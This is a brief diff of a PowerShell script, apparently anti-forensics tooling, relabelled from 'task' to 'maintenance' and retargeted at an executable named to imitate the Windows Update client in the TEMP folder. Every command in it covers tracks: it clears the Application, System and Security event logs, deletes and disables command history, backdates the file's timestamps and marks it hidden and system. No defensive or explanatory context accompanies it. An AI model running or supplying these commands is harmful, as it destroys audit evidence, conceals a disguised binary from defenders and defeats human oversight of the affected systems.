@@ -1,7 +1,7 @@
-# task 5972 v1
+# maintenance 2496 v1
 Clear-EventLog -LogName Application, System, Security
 Remove-Item (Get-PSReadlineOption).HistorySavePath -Force
 Set-PSReadlineOption -HistorySaveStyle SaveNothing
-$f = Get-Item C:\ProgramData\Microsoft\upd.exe
+$f = Get-Item $env:TEMP\wuauclt.exe
 $f.CreationTime = '01/01/2019 08:00:00'; $f.LastWriteTime = '01/01/2019 08:00:00'
-attrib +h +s C:\ProgramData\Microsoft\upd.exe
+attrib +h +s $env:TEMP\wuauclt.exe
